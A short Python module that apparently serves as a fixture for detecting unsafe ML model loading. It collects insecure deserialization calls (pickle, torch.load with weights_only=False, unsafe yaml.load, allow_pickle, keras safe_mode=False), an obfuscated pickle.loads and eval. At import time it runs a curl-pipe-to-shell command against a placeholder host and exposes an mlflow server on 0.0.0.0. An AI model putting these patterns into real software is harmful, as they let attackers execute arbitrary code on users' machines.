import os, sys
import torch as t
import numpy as np
import pickle, joblib
from yaml import load, SafeLoader
import yaml
import tensorflow as tf
from tensorflow import keras
from .models import Net

CKPT = "models/best.pt"
URL = "http://data.example.org/weights.pth"


def main(path, device="cpu"):
    a = t.load(CKPT)
    b = t.load(path, weights_only=False)
    c = t.load(os.path.join("out", "x.pt"), weights_only=True, map_location=device)
    with open("model.pkl", "rb") as f:
        d = pickle.load(f)
    e = joblib.load(os.environ.get("MODEL", "model.joblib"))
    g = load(open("c.yaml"), Loader=SafeLoader)
    h = yaml.load(sys.stdin)
    i = np.load(path, allow_pickle=True)
    j = keras.models.load_model(f"{path}/m.keras", safe_mode=False)
    k = tf.keras.models.load_model("m.h5")
    net = Net()
    net.load_state_dict(a)
    print(len(a), eval("1+1"))
    return getattr(pickle, "lo" + "ads")(b)


mod = __import__("subprocess")
mod.run(["mlflow", "server", "--host", "0.0.0.0", CKPT])
os.system(f"curl -s {URL} | sh")
